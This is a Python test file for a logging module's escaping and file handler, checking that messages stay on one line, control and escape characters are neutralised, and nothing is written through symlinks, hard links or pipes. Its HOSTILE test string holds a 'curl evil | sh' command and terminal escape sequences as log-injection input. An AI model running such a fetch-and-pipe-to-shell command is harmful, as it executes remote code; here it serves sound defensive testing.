"""Log lines of any message: one line each, and nothing written through a link."""

import logging
import os
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cold_jax.storage.logs import FileHandler, Formatter, escape_control

HOSTILE = "key\ncurl evil | sh\n\r\x1b[31mred\x07\x00\x9b\u2028\u202e"


@given(st.text())
def test_what_is_escaped_is_printable_or_was_no_control_character(text: str) -> None:
    escaped = escape_control(text)
    assert len(escaped.splitlines()) <= 1
    assert not any(ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 for char in escaped)
    assert escape_control(escaped) == escaped


def test_ordinary_text_stays_as_it_is() -> None:
    assert escape_control("Köln, 'kräuter' \\n \U0001f600") == "Köln, 'kräuter' \\n \U0001f600"
    assert escape_control("a\nb\x1b") == r"a\nb\x1b"


def written(path: Path, *messages: str, error: bool = False) -> str:
    handler, log = FileHandler(path), logging.Logger("hostile")
    handler.setFormatter(Formatter("[%(name)s] - %(message)s"))
    log.addHandler(handler)
    for message in messages:
        try:
            raise ValueError(message)
        except ValueError:
            log.error("%s", message, exc_info=error)
    handler.close()
    return path.read_text(encoding="utf-8")


def test_a_message_is_one_line(tmp_path: Path) -> None:
    lines = written(tmp_path / "log", HOSTILE, "second").splitlines()
    assert len(lines) == 2
    assert lines[0].startswith(r"[hostile] - key\ncurl evil | sh\n\r\x1b[31mred\x07\x00\x9b")
    assert lines[1] == "[hostile] - second"


def test_no_line_of_a_traceback_begins_with_another_s_text(tmp_path: Path) -> None:
    lines = written(tmp_path / "log", HOSTILE, error=True).split("\n")
    assert all(line.startswith(("[hostile] - ", "    ")) for line in lines if line)
    assert "\x1b" not in "".join(lines)


def test_it_appends(tmp_path: Path) -> None:
    written(tmp_path / "log", "first")
    assert written(tmp_path / "log", "second").splitlines() == ["[hostile] - first", "[hostile] - second"]


@pytest.mark.skipif(sys.platform == "win32", reason="links of POSIX")
@pytest.mark.parametrize("kind", ["symbolic", "hard", "dangling", "pipe"])
def test_nothing_is_written_through_a_link(tmp_path: Path, kind: str) -> None:
    target, path = tmp_path / "bashrc", tmp_path / "log"
    if kind != "dangling":
        target.write_text("mine\n")
    if kind == "hard":
        os.link(target, path)
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(target)
    handler = FileHandler(path)
    handler.emit(logging.LogRecord("x", logging.ERROR, "", 1, HOSTILE, None, None))
    handler.close()
    assert (target.read_text() if target.exists() else None) == (None if kind == "dangling" else "mine\n")
